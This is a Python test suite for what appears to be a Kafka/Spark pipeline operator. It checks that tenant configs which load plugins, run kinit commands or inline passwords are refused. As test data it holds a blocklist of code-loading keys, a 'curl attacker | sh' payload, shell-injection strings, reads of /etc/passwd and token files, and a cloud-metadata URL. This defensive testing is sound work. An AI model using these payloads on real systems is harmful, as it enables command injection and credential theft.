"""Client properties a tenant must not set (code, commands, inline secrets), refused by the CRD's
CEL rules (as `offtake validate` evaluates them) and by the loader, each naming the field; and
the operator's own Kafka clients built from an allowlist whatever the tenant's config says."""

from __future__ import annotations

import copy
import dataclasses
import logging
import subprocess
import sys
from typing import Any

import pytest
import yaml
from support.manifest_corpus import minimal

from offtake.config import ConfigError, parse_pipeline
from offtake.config.client_properties import OPERATOR_PROPERTIES
from offtake.config.crd_check import crd_problems
from offtake.kafka.config import client_config, consumer_config, producer_config
from offtake_operator.kafka_secret import KafkaSecretError, map_secret
from offtake_operator.lag import KafkaAccessError, admin_config

# Every property that loads code, runs a command or is a callback, in several spellings.
CODE_KEYS = [
    "plugin.library.paths",
    "PLUGIN.LIBRARY.PATHS",
    "ssl.engine.location",
    "ssl.engine.id",
    "ssl.providers",
    "ssl_engine_callback_data",
    "sasl.kerberos.kinit.cmd",
    "interceptors",
    "opaque",
    "default_topic_conf",
    "error_cb",
    "stats_cb",
    "throttle_cb",
    "log_cb",
    "oauth_cb",
    "oauthbearer_token_refresh_cb",
    "ssl.certificate.verify_cb",
    "logger",
    "on_delivery",
    "on_commit",
]
SECRET_KEYS = [
    "sasl.password",
    "ssl.key.password",
    "sasl.oauthbearer.client.secret",
    "sasl.oauthbearer.assertion.private.key.passphrase",
    "sasl.oauthbearer.assertion.private.key.pem",
    "sasl.jaas.config",
    "ssl.key.pem",
]
# Both maps whose properties reach librdkafka: the pipeline's clients and the sink's producer.
MAPS = {
    "spec.kafka.config": ("kafka", "config"),
    "spec.sink.kafka.config": ("sink", "kafka", "config"),
}
PAYLOAD = "/tmp/evil.so; curl attacker | sh"


def with_map(field: str, config: dict[str, Any]) -> dict[str, Any]:
    doc = minimal()
    spec = doc["spec"]
    if field == "spec.kafka.config":
        spec["kafka"]["config"] = config
    else:
        spec["sink"] = {"kafka": {"topic": "out", "config": config}}
    return doc


def with_spark(spark: dict[str, Any]) -> dict[str, Any]:
    doc = minimal()
    doc["spec"]["sink"] = {"spark": spark}
    return doc


def refused_by_both(doc: dict[str, Any], field: str, secret: str | None = None) -> str:
    """Assert the CRD (CEL, via `offtake validate`'s checker) and the loader both refuse
    ``doc`` naming ``field``, without echoing ``secret``; the loader's message."""
    problems = crd_problems(copy.deepcopy(doc))
    assert problems, f"the CRD accepted {field}"
    with pytest.raises(ConfigError) as err:
        parse_pipeline(copy.deepcopy(doc))
    message = str(err.value)
    assert message.startswith(field), message
    if secret is not None:
        assert secret not in message and not any(secret in p for p in problems), problems
    return message


@pytest.mark.parametrize("field", MAPS)
@pytest.mark.parametrize("key", CODE_KEYS)
def test_properties_that_load_code_or_run_commands_are_refused(field: str, key: str) -> None:
    doc = with_map(field, {"linger.ms": "5", key: PAYLOAD})
    message = refused_by_both(doc, f'{field}["{key}"]')
    assert "refused" in message
    (problem,) = crd_problems(doc)
    # The CEL rule's messageExpression names the key, as the API server prints it.
    assert problem.startswith(f"{field}: ") and f'"{key}"' in problem, problem


@pytest.mark.parametrize("field", MAPS)
@pytest.mark.parametrize("key", ["sasl.kerberos.principal", "sasl.kerberos.keytab"])
def test_kerberos_values_that_reach_the_kinit_shell_line_are_held_to_safe_text(
    field: str, key: str
) -> None:
    """librdkafka's default kinit command substitutes both into a shell line."""
    for hostile in ('x" ; id ; "', "me$(id)", "me`id`", "a b", "x|sh"):
        refused_by_both(with_map(field, {key: hostile}), f'{field}["{key}"]')
    for fine in ("kafkaclient/host.example.com@EXAMPLE.COM", "/etc/krb5/client.keytab"):
        doc = with_map(field, {key: fine})
        assert crd_problems(doc) == []
        parse_pipeline(doc)


@pytest.mark.parametrize("field", MAPS)
@pytest.mark.parametrize("key", SECRET_KEYS)
def test_secrets_are_refused_inline_in_every_kafka_config_map(field: str, key: str) -> None:
    """sink.kafka.config lands in the ConfigMap just as kafka.config does."""
    message = refused_by_both(with_map(field, {key: "hunter2"}), f'{field}["{key}"]', "hunter2")
    assert "spec.kafka.secretRef" in message


def test_ordinary_tuning_passes_in_both_maps() -> None:
    tuning = {"linger.ms": 5, "compression.type": "zstd", "sasl.mechanism": "SCRAM-SHA-512"}
    for field in MAPS:
        doc = with_map(field, dict(tuning))
        assert crd_problems(doc) == []
        parse_pipeline(doc)


JDBC = {"url": "jdbc:postgresql://db:5432/shop", "table": "orders", "user": "writer"}


def test_an_inline_jdbc_password_is_refused_and_its_secret_forms_accepted() -> None:
    doc = with_spark({"format": "jdbc", "jdbc": {**JDBC, "password": "hunter2"}})
    message = refused_by_both(doc, "spec.sink.spark.jdbc.password", "hunter2")
    assert "passwordSecretRef" in message
    ref = {"name": "db", "key": "password"}
    doc = with_spark({"format": "jdbc", "jdbc": {**JDBC, "passwordSecretRef": ref}})
    assert crd_problems(doc) == []
    jdbc = parse_pipeline(doc).sink.spark.jdbc  # type: ignore[union-attr]
    assert jdbc is not None and jdbc.password_secret_ref is not None
    assert (jdbc.password_secret_ref.name, jdbc.password_secret_ref.key) == ("db", "password")
    both = {**JDBC, "passwordSecretRef": ref, "secretRef": {"name": "db"}}
    refused_by_both(with_spark({"format": "jdbc", "jdbc": both}), "spec.sink.spark.jdbc")


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:postgresql://db:5432/shop?user=w&password=hunter2",
        "jdbc:sqlserver://db:1433;databaseName=shop;user=w;password=hunter2",
        "jdbc:sqlserver://db:1433;databaseName=shop;user=w;PWD=hunter2",
        "jdbc:mysql://w:hunter2@db:3306/shop",
        "jdbc:oracle:thin:w/hunter2@db:1521:orcl",
    ],
)
def test_a_password_inside_a_jdbc_url_is_refused(url: str) -> None:
    doc = with_spark({"format": "jdbc", "jdbc": {**JDBC, "url": url}})
    refused_by_both(doc, "spec.sink.spark.jdbc.url", "hunter2")


def test_an_iceberg_catalog_uri_with_a_password_is_refused() -> None:
    iceberg = {"table": "lake.orders", "catalogUri": "postgresql+psycopg://ice:hunter2@db/cat"}
    doc = with_spark({"format": "iceberg", "path": "/w", "iceberg": iceberg})
    message = refused_by_both(doc, "spec.sink.spark.iceberg.catalogUri", "hunter2")
    assert "iceberg.passwordSecretRef" in message
    iceberg = {
        "table": "lake.orders",
        "catalogUri": "postgresql+psycopg://ice@db:5432/cat",
        "passwordSecretRef": {"name": "catalog", "key": "password"},
    }
    doc = with_spark({"format": "iceberg", "path": "/w", "iceberg": iceberg})
    assert crd_problems(doc) == []
    parse_pipeline(doc)


def test_a_connect_url_with_a_token_is_refused() -> None:
    submit = {"mode": "connect", "connectUrl": "sc://spark:15002/;use_ssl=true;token=hunter2"}
    doc = with_spark({"format": "json", "path": "/w", "submit": submit})
    message = refused_by_both(doc, "spec.sink.spark.submit.connectUrl", "hunter2")
    assert "tokenSecretRef" in message
    submit = {
        "mode": "connect",
        "connectUrl": "sc://spark:15002/;use_ssl=true",
        "tokenSecretRef": {"name": "spark", "key": "token"},
    }
    doc = with_spark({"format": "json", "path": "/w", "submit": submit})
    assert crd_problems(doc) == []
    parse_pipeline(doc)


@pytest.mark.parametrize(
    "key",
    [
        "spark.hadoop.fs.s3a.secret.key",
        "spark.hadoop.fs.s3a.access.key",
        "spark.hadoop.fs.s3a.session.token",
        "spark.ssl.keyPassword",
        "spark.authenticate.secret",
        "spark.hadoop.fs.azure.account.key.lake.dfs.core.windows.net",
        "spark.hadoop.fs.gs.auth.service.account.private.key",
    ],
)
def test_secret_looking_spark_conf_is_refused(key: str) -> None:
    doc = with_spark({"format": "json", "path": "/w", "submit": {"conf": {key: "hunter2"}}})
    refused_by_both(doc, f'spec.sink.spark.submit.conf["{key}"]', "hunter2")


# ------------------------------------------------------------ the Secret and the clients


def test_a_kafka_secret_key_that_runs_a_command_is_refused_by_the_operator() -> None:
    """kafka_secret passes sasl.* and ssl.* keys through: not these."""
    for key in ("sasl.kerberos.kinit.cmd", "ssl.engine.location", "ssl.providers"):
        with pytest.raises(KafkaSecretError, match=key):
            map_secret("team-a", "kafka", {"sasl.username": "u", key: "touch /tmp/pwned"})


def test_the_workers_clients_refuse_the_same_keys_from_a_mounted_secret() -> None:
    spec = parse_pipeline(minimal())
    with pytest.raises(ConfigError, match=r'spec\.kafka\.secretRef\["ssl\.engine\.location"\]'):
        client_config(spec, {"ssl.engine.location": "/tmp/evil.so"}, logging.getLogger("t"))


def _bypassing_the_loader(config: dict[str, str]) -> Any:
    """A spec as an older loader (or a stored object no longer valid) could hand over."""
    spec = parse_pipeline(minimal())
    return dataclasses.replace(spec, kafka=dataclasses.replace(spec.kafka, config=config))


def test_the_operators_clients_use_only_allowlisted_properties() -> None:
    tenant = {
        "security.protocol": "SASL_SSL",
        "sasl.mechanism": "SCRAM-SHA-512",
        "ssl.endpoint.identification.algorithm": "https",
        # Reads a file of the operator's container / uses the operator's cloud identity.
        "ssl.ca.location": "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "sasl.oauthbearer.metadata.authentication.type": "azure_imds",
        "sasl.oauthbearer.assertion.file": "/etc/passwd",
        "sasl.kerberos.principal": "tenant",
        "debug": "all",
        "linger.ms": "5",
        "statistics.interval.ms": "1000",
    }
    secret = {"sasl.username": "u", "sasl.password": "p"}
    conf = admin_config(_bypassing_the_loader(tenant), secret, timeout=5)
    assert set(conf) <= OPERATOR_PROPERTIES, set(conf) - OPERATOR_PROPERTIES
    assert conf["security.protocol"] == "SASL_SSL" and conf["sasl.password"] == "p"
    assert conf["socket.timeout.ms"] == 5000 and conf["bootstrap.servers"] == "kafka:9092"
    # The tenant's own workers still get their settings.
    worker = consumer_config(_bypassing_the_loader(tenant))
    assert worker["linger.ms"] == "5" and worker["sasl.kerberos.principal"] == "tenant"
    # librdkafka's "probe" (the system's CA bundle) is the one ssl.ca.location passed on.
    probe = admin_config(_bypassing_the_loader({"ssl.ca.location": "probe"}), {}, timeout=5)
    assert probe["ssl.ca.location"] == "probe"


def test_the_operator_refuses_plugin_library_paths_even_past_the_loader() -> None:
    spec = _bypassing_the_loader({"plugin.library.paths": "/tmp/evil.so"})
    with pytest.raises(KafkaAccessError, match=r'spec\.kafka\.config\["plugin\.library\.paths"\]'):
        admin_config(spec, {}, timeout=5)


def test_a_hand_written_manifest_is_refused_by_the_worker_itself(tmp_path: Any) -> None:
    """No API server in the way: `offtake worker --pipeline` refuses before any client exists."""
    path = tmp_path / "pipeline.yaml"
    path.write_text(yaml.safe_dump(with_map("spec.sink.kafka.config", {"ssl.providers": "x"})))
    done = subprocess.run(
        [sys.executable, "-m", "offtake.cli", "worker", "--pipeline", str(path)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 2, done.stderr
    assert 'spec.sink.kafka.config["ssl.providers"]: refused' in done.stderr
    assert "Traceback" not in done.stderr


def test_the_sinks_producer_refuses_them_from_a_spec_built_in_code() -> None:
    spec = parse_pipeline(minimal())
    with pytest.raises(ConfigError, match=r'spec\.sink\.kafka\.config\["plugin\.library\.paths"\]'):
        producer_config(spec, {"plugin.library.paths": "/tmp/evil.so"})


def test_producers_linger_two_milliseconds_unless_the_spec_says_otherwise() -> None:
    # A record's commit waits for its delivery, and its delivery for the linger: the default
    # is short; a pipeline that wants fuller batches sets it.
    spec = parse_pipeline(minimal())
    assert producer_config(spec)["linger.ms"] == "2"
    assert producer_config(spec, {"linger.ms": "20"})["linger.ms"] == "20"
    tuned = parse_pipeline(with_map("spec.kafka.config", {"linger.ms": "50"}))
    assert producer_config(tuned)["linger.ms"] == "50"


def test_the_operators_clients_bound_responses_and_time_whatever_the_tenant_sets() -> None:
    from offtake_operator.lag import OPERATOR_MAX_RESPONSE_BYTES

    tenant = {
        "receive.message.max.bytes": "2147483647",
        "socket.connection.setup.timeout.ms": "2147483647",
        "socket.timeout.ms": "300000",
    }
    conf = admin_config(_bypassing_the_loader(tenant), {}, timeout=5)
    assert conf["receive.message.max.bytes"] == OPERATOR_MAX_RESPONSE_BYTES
    assert conf["fetch.max.bytes"] == OPERATOR_MAX_RESPONSE_BYTES - 512
    assert conf["socket.timeout.ms"] == 5000
    assert conf["socket.connection.setup.timeout.ms"] == 5000


@pytest.mark.parametrize(
    "config",
    [
        {"sasl.oauthbearer.token.endpoint.url": "http://169.254.169.254/latest/meta-data/"},
        {"sasl.oauthbearer.method": "OIDC", "sasl.oauthbearer.client.id": "c"},
    ],
)
def test_the_operators_clients_refuse_a_token_endpoint_elsewhere(config: dict[str, str]) -> None:
    (key,) = [k for k in config if k != "sasl.oauthbearer.client.id"]
    with pytest.raises(KafkaAccessError, match=rf'spec\.kafka\.config\["{key}"\]: refused'):
        admin_config(_bypassing_the_loader(config), {}, timeout=5)
    # The tenant's workers keep OAUTHBEARER: they run as the tenant.
    assert consumer_config(_bypassing_the_loader(config))[key] == config[key]
